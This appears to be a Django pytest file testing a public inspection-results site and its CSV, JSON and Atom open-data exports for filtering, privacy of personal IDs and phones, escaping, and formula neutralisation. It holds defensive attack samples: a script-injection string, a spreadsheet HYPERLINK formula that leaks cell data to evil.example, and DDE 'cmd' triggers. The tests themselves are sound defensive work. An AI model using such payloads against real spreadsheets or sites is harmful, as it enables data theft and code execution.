"""The public results (no login): search and filters, pagination, each notice, the open data with
the same filters and stable field names (docs/open-data.md), and safety — unpublished or
withdrawn never visible, every text escaped."""

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.urls import reverse

from inspections.models import TargetResult
from publication.models import ResultNotice
from publication.services import notice_correct, notice_publish, notice_publish_all, notice_withdraw
from tests.factories import PractitionerFactory
from tests.pii_shapes import personal_shapes

pytestmark = pytest.mark.django_db
SCRIPT = "<script>alert('x')</script>"
JSON_FIELDS = {
    "target_name",
    "credit_code",
    "items",
    "legal_basis",
    "result",
    "inspected_from",
    "inspected_to",
    "authority",
    "inspectors",
    "published_at",
}


def body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


@pytest.fixture
def published(report, staff_user):
    return notice_publish_all(report=report, user=staff_user)


def test_the_list_shows_published_results_only(client, report, staff_user):
    results = list(report.results.order_by("pk"))
    shown = notice_publish(result=results[0], user=staff_user)
    withdrawn = notice_publish(result=results[1], user=staff_user)
    notice_withdraw(notice=withdrawn, user=staff_user, reason="复核中")
    page = body(client.get(reverse("publication:result_list")))
    assert shown.target_name in page
    assert withdrawn.target_name not in page
    unpublished = results[2].inspection.institution.name
    assert unpublished not in page
    for fmt in ("csv", "json", "atom"):
        data = body(client.get(reverse(f"publication:result_list_{fmt}")))
        assert shown.credit_code in data
        assert withdrawn.credit_code not in data and unpublished not in data
    assert client.get(reverse("publication:result_detail", args=[withdrawn.pk])).status_code == 404


def test_search_and_filters_on_pages_and_open_data(client, published):
    target = next(n for n in published if n.category == "case_filed")
    others = [n for n in published if n.pk != target.pk]
    cases = {
        "q": target.target_name[-8:],
        "result": "case_filed",
    }
    for key, value in cases.items():
        page = body(client.get(reverse("publication:result_list"), {key: value}))
        assert target.target_name in page and others[0].target_name not in page
        data = json.loads(body(client.get(reverse("publication:result_list_json"), {key: value})))
        assert [r["credit_code"] for r in data["results"]] == [target.credit_code]
    by_code = body(
        client.get(reverse("publication:result_list"), {"q": target.credit_code.lower()})
    )
    assert target.target_name in by_code
    nothing = json.loads(body(client.get(reverse("publication:result_list_json"), {"year": 2019})))
    assert nothing["results"] == []
    # Unknown filter values are ignored, not errors.
    assert (
        client.get(reverse("publication:result_list"), {"year": "abc", "result": "x"}).status_code
        == 200
    )


def test_json_fields_are_the_documented_ones(client, published):
    data = json.loads(body(client.get(reverse("publication:result_list_json"))))
    assert data["format"] == "shuangsuiji-results/1"
    result = data["results"][0]
    assert set(result) >= JSON_FIELDS
    assert result["result"] in TargetResult.Category.values
    assert result["inspectors"][0].keys() == {"name", "certificate"}
    assert result["url"].startswith("http://")


def test_csv_opens_in_a_spreadsheet(client, published):
    response = client.get(reverse("publication:result_list_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == len(published)
    assert {"target_name", "credit_code", "result", "inspectors"} <= set(rows[0])


def test_atom_is_a_feed(client, published):
    response = client.get(reverse("publication:result_list_atom"))
    root = ET.fromstring(b"".join(response.streaming_content))
    entries = root.findall("{http://www.w3.org/2005/Atom}entry")
    assert len(entries) == len(published)


def test_no_id_or_phone_reaches_the_results_or_the_open_data(client, published):
    """Issue 14 §4 (PIPL): the practitioners of every published institution have ID numbers and
    phones; none of them, nor anything shaped like one, is on a page, in the CSV, JSON or Atom."""
    people = [
        PractitionerFactory(institution=notice.result.inspection.institution)
        for notice in published
    ]
    codes = [n.credit_code for n in published]
    urls = [
        reverse(name)
        for name in (
            "publication:result_list",
            "publication:result_list_csv",
            "publication:result_list_json",
            "publication:result_list_atom",
        )
    ] + [reverse("publication:result_detail", args=[n.pk]) for n in published]
    for url in urls:
        text = body(client.get(url))
        assert personal_shapes(text, allowed=codes) == [], url
        for person in people:
            assert person.id_number not in text and person.phone not in text, url


def test_detail_shows_versions_and_withholdings(client, published, staff_user):
    notice = published[0]
    new = notice_correct(
        notice=notice,
        user=staff_user,
        reason="更正检查发现的表述",
        withheld={"inspectors": "依法不予公开：执法人员人身安全"},
    )
    page = body(client.get(reverse("publication:result_detail", args=[new.pk])))
    assert "更正检查发现的表述" in page and "依法不予公开：执法人员人身安全" in page
    old = body(client.get(reverse("publication:result_detail", args=[notice.pk])))
    assert "本结果已更正" in old


def test_every_text_that_reaches_the_public_is_escaped(client, report, staff_user):
    result = report.results.order_by("pk").first()
    institution = result.inspection.institution
    institution.name = f"{SCRIPT}律师事务所"
    institution.save()
    notice = notice_publish(result=result, user=staff_user)
    notice_correct(notice=notice, user=staff_user, reason=SCRIPT, findings=SCRIPT)
    current = ResultNotice.objects.public().get()
    for url in (
        reverse("publication:result_list"),
        reverse("publication:result_detail", args=[current.pk]),
        reverse("publication:result_detail", args=[notice.pk]),
        reverse("publication:result_list_atom"),
    ):
        page = body(client.get(url))
        assert SCRIPT not in page, url
        assert "&lt;script&gt;" in page, url


def test_list_queries_are_bounded(client, published, django_assert_max_num_queries):
    with django_assert_max_num_queries(6):
        response = client.get(reverse("publication:result_list"))
    assert response.status_code == 200


def test_the_institution_page_and_the_home_page_show_results(client, published):
    notice = published[0]
    page = body(client.get(reverse("registry:institution_detail", args=[notice.credit_code])))
    assert reverse("publication:result_detail", args=[notice.pk]) in page
    assert notice.get_category_display() in page
    home = body(client.get(reverse("registry:home")))
    assert notice.target_name in home and reverse("publication:result_list") in home


def test_the_office_publishes_a_report_with_a_withholding(client, report, staff_user):
    """Through the admin: everything of the report at once, the inspectors withheld from the start
    with the reason recorded (Y3.6); the public sees the reason, not the names."""
    client.force_login(staff_user)
    add = reverse("admin:publication_resultnotice_add")
    assert "不予公开" in client.get(add).content.decode()
    reason = "执法人员信息依法不予公开（人身安全）"
    response = client.post(add, {"report": report.pk, "withhold_inspectors": reason})
    assert response.status_code == 302
    notices = list(ResultNotice.objects.public())
    assert len(notices) == report.results.count()
    assert all(n.inspectors == [] and n.withheld == {"inspectors": reason} for n in notices)
    page = body(client.get(reverse("publication:result_detail", args=[notices[0].pk])))
    assert reason in page
    member = report.results.first().inspection.members.first().inspector
    assert member.certificate_number not in body(
        client.get(reverse("publication:result_list_json"))
    )


def test_the_count_follows_every_publication_and_withdrawal(client, report, staff_user):
    """The list's total is cached between publications, never across one."""
    results = list(report.results.order_by("pk"))
    url = reverse("publication:result_list")
    assert "共 0 条结果" in body(client.get(url))
    first = notice_publish(result=results[0], user=staff_user)
    assert "共 1 条结果" in body(client.get(url))
    notice_publish(result=results[1], user=staff_user)
    assert "共 2 条结果" in body(client.get(url))
    notice_withdraw(notice=first, user=staff_user, reason="复核中")
    page = body(client.get(url))
    assert "共 1 条结果" in page and first.target_name not in page


FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")律师事务所'
FORMULA_FINDINGS = {
    "=": "=1+1",
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def test_open_data_csv_never_carries_a_formula(client, report, staff_user):
    """/results.csv: a text a spreadsheet would run gets a leading apostrophe (docs/open-data.md);
    the JSON and the Atom feed keep the exact text. One notice per trigger."""
    results = list(report.results.order_by("pk"))
    institution = results[0].inspection.institution
    institution.name = FORMULA_NAME
    institution.save()
    expected = {}
    for result, findings in zip(results, FORMULA_FINDINGS.values(), strict=False):
        notice = notice_publish(result=result, user=staff_user)
        current = notice_correct(notice=notice, user=staff_user, reason="-更正", findings=findings)
        expected[current.pk] = findings

    raw = body(client.get(reverse("publication:result_list_csv")))
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    records = {int(r["id"]): r for r in (dict(zip(rows[0], row, strict=True)) for row in rows[1:])}
    assert {pk: r["findings"] for pk, r in records.items()} == {
        pk: "'" + findings for pk, findings in expected.items()
    }
    first = records[min(expected)]
    assert first["target_name"] == "'" + FORMULA_NAME
    assert first["year"].isdigit() and first["version"] == "2"  # numbers stay numbers

    data = json.loads(body(client.get(reverse("publication:result_list_json"))))["results"]
    assert {r["id"]: r["findings"] for r in data} == expected
    assert FORMULA_NAME in {r["target_name"] for r in data}
    assert {r["correction_reason"] for r in data} == {"-更正"}
    feed = ET.fromstring(body(client.get(reverse("publication:result_list_atom"))).encode())
    titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert any(t.startswith(FORMULA_NAME) for t in titles)
